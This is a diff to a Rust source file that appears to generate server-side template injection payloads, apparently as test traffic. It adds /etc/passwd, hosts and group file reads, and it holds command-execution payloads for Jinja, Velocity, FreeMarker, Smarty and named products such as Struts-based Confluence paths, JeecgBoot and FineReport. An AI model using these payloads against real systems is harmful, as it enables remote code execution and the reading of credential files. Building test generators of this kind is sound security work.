@@ -40,6 +40,7 @@ pub(super) const ATTACKS: &[AttackGrammar] = &[
 fn engines(rng: &mut Rng) -> Vec<u8> {
     let (n, m, word) = (rng.between(100, 9999), rng.between(100, 9999), rng.letters(4));
     let run = rng.pick(&["id", "whoami", "uname -a", "cat /etc/hosts", "sleep 5"]);
+    let file = rng.pick(&["passwd", "hosts", "group"]);
     match rng.below(24) {
         0 => format!("{{% import os %}}{{{{os.popen(\"{run}\").read()}}}}{word}"),
         1 => format!("<%\nimport os\n{word}=os.popen('{run}').read()\n%>\n${{{word}}}"),
@@ -57,12 +58,12 @@ fn engines(rng: &mut Rng) -> Vec<u8> {
         13 => format!("${{{{<%[%'\"}}}}%\\.{word}"),
         14 => format!("{{{{{n}*{m}}}}}${{{n}*{m}}}#{{{n}*{m}}}<%={n}*{m}%>{word}"),
         15 => format!("{{% for {word} in (1..{m}) %}}{{% include '/etc/hosts' %}}{{% endfor %}}"),
-        16 => format!("{{{{ x = object.from_json('{{}}') }}}}{{{{ file.read_all_text \"/etc/{word}\" }}}}"),
+        16 => format!("{{{{ x = object.from_json('{{}}') }}}}{{{{ file.read_all_text \"/etc/{file}\" }}}}"),
         17 => format!("{{{{ self.__init__.__globals__.__builtins__.__import__('os').popen('{run}').read() }}}}{word}"),
-        18 => format!("{{{{ get_flashed_messages.__globals__.__builtins__.open(\"/etc/{word}\").read() }}}}"),
+        18 => format!("{{{{ get_flashed_messages.__globals__.__builtins__.open(\"/etc/{file}\").read() }}}}{word}"),
         19 => format!("{{{{joiner|attr(\"__in\"\"it__\")|attr(\"__glo\"\"bals__\")}}}}{word}"),
         20 => format!("{{{{[{n}]|map('passthru')|join}}}}{{{{['{run}']|map('system')|join}}}}"),
-        21 => format!("{{{{'/etc/{word}'|file_excerpt(1,{n})}}}}"),
+        21 => format!("{{{{'/etc/{file}'|file_excerpt(1,{n})}}}}"),
         22 => format!("<#assign {word}=object?api.class.getResource(\"/\").getPath()>${{{word}}}"),
         _ => format!("{{system(\\'{run}\\')}}{{include file=\"data:,{{system('{run}')}}\"}}{word}"),
     }
@@ -72,7 +73,7 @@ fn engines(rng: &mut Rng) -> Vec<u8> {
 fn template_products(rng: &mut Rng) -> Shot {
     let (run, word) = (command(rng), rng.letters(5));
     match rng.below(15) {
-        0 => form("/template/aui/text-inline.vm", format!("label=aaa\\u0027%2b#request.get(\\u0027.KEY_velocity.struts2.context\\u0027).internalGet(\\u0027ognl\\u0027).findValue(#parameters.{word},{{}})%2b\\u0027&{word}=@org.apache.struts2.ServletActionContext@getResponse().setHeader(\\u0027X-Cmd\\u0027,(new freemarker.template.utility.Execute()).exec({{%22{}%22}}))", codec::percent(&run)).replace('#', "%23"), rng),
+        0 => form("/template/aui/text-inline.vm", format!("label=aaa\\u0027%2b#request.get(\\u0027.KEY_velocity.struts2.context\\u0027).internalGet(\\u0027ognl\\u0027).findValue(#parameters.{word},{{}})%2b\\u0027&{word}=@org.apache.struts2.ServletActionContext@getResponse().setHeader(\\u0027X-Cmd\\u0027,(new+freemarker.template.utility.Execute()).exec({{%22{}%22}}))", codec::percent(&run)).replace('#', "%23"), rng),
         1 => query(format!("/catalog-portal/ui/oauth/verify?error=&deviceUdid={}", codec::percent(format!("${{\"freemarker.template.utility.Execute\"?new()(\"{run}\")}}"))), rng),
         2 => json("/jeecg-boot/jmreport/queryFieldBySql", format!("{{\"sql\":\"select 'result:<#assign ex=\\\"freemarker.template.utility.Execute\\\"?new()> ${{ex(\\\"{run}\\\")}}'\",\"dbSource\":\"\",\"type\":\"0\",\"k\":\"{word}\"}}"), rng),
         3 => query(format!("/webroot/decision/view/ReportServer?test={word}&n={}", codec::percent(format!("${{__fr_locale__=sql('FRDemo',DECODE('%ef%bb%bfATTACH DATABASE \"../webapps/webroot/{word}.jsp\" AS a'),1,1)}}"))), rng),
